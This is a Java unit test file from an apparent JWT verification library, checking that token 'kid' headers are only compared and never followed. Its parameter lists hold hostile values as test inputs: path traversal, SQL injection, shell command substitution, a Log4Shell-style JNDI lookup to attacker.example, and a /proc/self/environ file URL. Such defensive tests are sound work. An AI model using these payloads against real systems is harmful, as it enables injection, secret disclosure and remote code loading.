package dev.latchkey.jwt;

import static org.assertj.core.api.Assertions.assertThat;

import dev.latchkey.json.JsonValue;
import dev.latchkey.json.JsonValue.JsonArray;
import dev.latchkey.json.JsonValue.JsonBoolean;
import dev.latchkey.json.JsonValue.JsonNumber;
import dev.latchkey.json.JsonValue.JsonObject;
import dev.latchkey.json.JsonValue.JsonString;
import dev.latchkey.keys.Algorithm;
import dev.latchkey.keys.KeySet;
import dev.latchkey.keys.KeySource;
import dev.latchkey.keys.RefreshPolicy;
import dev.latchkey.keys.RemoteKeys;
import dev.latchkey.testing.Door;
import dev.latchkey.testing.HostileKeyServer;
import dev.latchkey.testing.TestKeys;
import dev.latchkey.testing.TestTokens;
import dev.latchkey.testing.TurnableClock;
import java.io.IOException;
import java.security.KeyPair;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("D: Key ids that point elsewhere")
class KidAttacksTest {

    private static final KeyPair ATTACKER = TestKeys.rsa("attacker");

    private final Door door = Door.rsa(Algorithm.RS256);
    private final String good = Door.goodRs256();

    @Test
    @DisplayName("D1: a kid that walks to an empty file finds no key")
    void pathTraversal() {
        door.accepts(good);
        String token =
                TestTokens.good("HS256").header("kid", "../../../../dev/null").hmac("SHA256", new byte[1]);
        door.refuses(token, Reason.UNKNOWN_KEY);
        Door.hs256().refuses(token, Reason.BAD_SIGNATURE);
    }

    @ParameterizedTest
    @DisplayName("D2: a kid that is SQL, a command or an address is compared and nothing else")
    @ValueSource(
            strings = {
                "x' UNION SELECT 'secret' -- ",
                "$(id)",
                "`id`",
                "|/usr/bin/id",
                "https://attacker.example/k",
                "file:///proc/self/environ",
                "${jndi:ldap://attacker.example/k}",
                "KEY-1",
                "key-1 ",
                "key-1/"
            })
    void kidAsCommand(String kid) {
        door.accepts(good);
        Verification.Rejected rejected =
                door.refuses(Door.token("RS256").header("kid", kid).rs256(Door.RSA.getPrivate()), Reason.UNKNOWN_KEY);
        assertThat(rejected.kid()).contains(kid);
        assertThat(rejected.verifiedKeyId()).isNull();
    }

    @ParameterizedTest
    @DisplayName("D3: a kid with NUL or another control character is malformed and is not passed on to logs")
    @ValueSource(strings = {"key-1\0.pem", "key-1\0", "key-1\n", "\u001b[31mkey-1", "key-1\u0085"})
    void kidWithControlCharacter(String kid) {
        door.accepts(good);
        Verification.Rejected rejected = door.refuses(
                Door.token("RS256").header("kid", kid).rs256(Door.RSA.getPrivate()), Reason.MALFORMED_HEADER);
        assertThat(rejected.kid()).isEmpty();
    }

    @Test
    @DisplayName(
            "D4: a kid of 256 characters is compared, one of 257 or an empty one is malformed, one of 6,000 too large")
    void longKid() {
        door.accepts(good);
        String longest = "k".repeat(256);
        assertThat(door.refuses(signedWithKid(new JsonString(longest)), Reason.UNKNOWN_KEY)
                        .kid())
                .contains(longest);
        for (String kid : List.of("k".repeat(257), "k".repeat(3000), "", " ")) {
            Verification.Rejected rejected = door.refuses(signedWithKid(new JsonString(kid)), Reason.MALFORMED_HEADER);
            assertThat(rejected.kid()).isEmpty();
        }
        assertThat(door.refuses(signedWithKid(new JsonString("k".repeat(6000))), Reason.TOKEN_TOO_LARGE)
                        .kid())
                .isEmpty();
    }

    @ParameterizedTest(name = "{0}")
    @DisplayName("D5: a kid that is no string is malformed")
    @MethodSource("kidsOfOtherTypes")
    void kidOfOtherType(JsonValue kid) {
        door.accepts(good);
        door.refuses(signedWithKid(kid), Reason.MALFORMED_HEADER);
    }

    static Stream<JsonValue> kidsOfOtherTypes() {
        return Stream.of(
                JsonNumber.of(1),
                new JsonBoolean(true),
                JsonValue.NULL,
                new JsonArray(List.of(new JsonString("key-1"))),
                new JsonObject(Map.of()));
    }

    @Test
    @DisplayName(
            "D2, D7: a kid, were it an address or a path, makes no call but for the key set, and at most one of those")
    void kidIsNotFollowed() throws IOException {
        try (HostileKeyServer server = new HostileKeyServer()) {
            server.answers(HostileKeyServer.keys(HostileKeyServer.rsa(Door.KID, Door.RSA)));
            TurnableClock clock = new TurnableClock(TestTokens.NOW);
            KeySource<KeySet> keys = RemoteKeys.at(server.uri(), List.of(), clock, (age, failure) -> {});
            Door remote = new Door(new TokenVerifier(keys, VerificationRules.DEFAULT, clock), clock);
            remote.accepts(good);
            List<String> kids = List.of(server.uri("127.0.0.1", "/k"), "../k", "/k", "?k", "jwks/../k", "key-2");
            for (String kid : kids) {
                clock.turn(RefreshPolicy.FOR_REMOTE_KEYS.pause());
                String token = Door.token("RS256").header("kid", kid).rs256(ATTACKER.getPrivate());
                remote.refuses(token, Reason.UNKNOWN_KEY);
                remote.refuses(token, Reason.UNKNOWN_KEY);
            }
            assertThat(server.requests()).containsOnly("GET /jwks HTTP/1.1").hasSize(1 + kids.size());
        }
    }

    @Test
    @DisplayName("D7: an unknown kid is refused, and so is a missing one where there are several keys")
    void unknownKid() {
        door.accepts(good);
        door.refuses(signedWithKid(new JsonString("key-2")), Reason.UNKNOWN_KEY);

        Door two = Door.of("{\"keys\":[{" + TestKeys.jwkMembers(Door.RSA) + ",\"kid\":\"key-1\"},{"
                + TestKeys.jwkMembers(ATTACKER) + ",\"kid\":\"key-2\"}]}");
        two.accepts(good);
        two.refuses(TestTokens.good("RS256").rs256(Door.RSA.getPrivate()), Reason.UNKNOWN_KEY);
    }

    private static String signedWithKid(JsonValue kid) {
        return Door.token("RS256").header("kid", kid).rs256(Door.RSA.getPrivate());
    }
}
